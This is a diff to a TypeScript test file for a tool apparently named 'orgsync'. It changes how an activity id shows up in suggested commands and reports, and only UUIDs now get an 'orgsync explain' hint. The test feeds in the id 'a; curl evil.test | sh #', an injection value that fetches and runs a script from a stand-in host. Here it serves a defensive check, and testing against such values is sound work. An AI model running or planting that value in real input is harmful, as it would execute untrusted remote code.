@@ -183,7 +183,7 @@ describe("a rename to a name that looks the same", () => {
 });
 
 describe("a command that is shown", () => {
-	it("has an activity's id as one word, whatever the service calls it", () => {
+	it("has an activity's id as one word, whatever the service calls it, and explains only a UUID", () => {
 		const activityId = "a; curl evil.test | sh #";
 		const policy = id("policy", 1);
 		const plan: Plan = makePlan(
@@ -207,7 +207,7 @@ describe("a command that is shown", () => {
 		);
 		const [difference] = knownDifferences(plan);
 		if (difference === undefined) throw new Error("nothing differs");
-		expect(describeTodo(difference, plan)).toContain(`\`orgsync explain '${activityId}'\``);
+		expect(describeTodo(difference, plan)).toBe(`wait for activity '${activityId}', which makes the same change`);
 		const contradicted = {
 			...plan,
 			waiting: plan.waiting.map((one) => ({ ...one, relation: "conflicting" as const })),
@@ -218,7 +218,8 @@ describe("a command that is shown", () => {
 			...{ message: null, refusedStatus: null, keyNotAccepted: false, policyEvaluations: [], parts: [] },
 		}));
 		const report = renderReport({ ...reportOf(plan), steps, left: [], unverified: null }, plan, plainStyle);
-		expect(report).toContain(`     orgsync explain '${activityId}' shows what it is waiting for\n`);
+		expect(report).toContain(`     activity ${showName(activityId)}, fingerprint`);
+		expect(report).not.toContain("orgsync explain");
 	});
 });
 
